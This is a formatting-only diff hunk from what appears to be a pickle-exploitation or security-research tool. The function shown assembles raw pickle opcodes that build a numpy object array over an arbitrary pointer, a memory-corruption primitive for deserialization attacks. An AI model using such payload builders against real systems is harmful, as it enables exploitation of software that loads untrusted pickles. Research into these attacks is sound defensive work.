@@ -139,8 +139,9 @@ def numpy_object_array_ops(pointer: bytes = b"A" * 8, module: str = "numpy.core.
         + b"(" + INT(3) + STR("|") + b"NNN" + INT(-1) + INT(-1) + INT(0) + b"t" + b"b"
     )  # fmt: skip
     return (
-        GLOBAL(module, "_reconstruct") + GLOBAL("numpy", "ndarray") + INT(0) + b"\x85" + BYTES(b"b") + b"\x87R"
-        + b"(" + INT(1) + INT(len(pointer) // 8) + b"\x85" + dtype + b"\x89" + BYTES(pointer) + b"t" + b"b"
+        GLOBAL(module, "_reconstruct") + GLOBAL("numpy", "ndarray") + INT(0) + b"\x85" + BYTES(b"b")
+        + b"\x87R" + b"(" + INT(1) + INT(len(pointer) // 8) + b"\x85" + dtype + b"\x89" + BYTES(pointer)
+        + b"t" + b"b"
     )  # fmt: skip
 
 
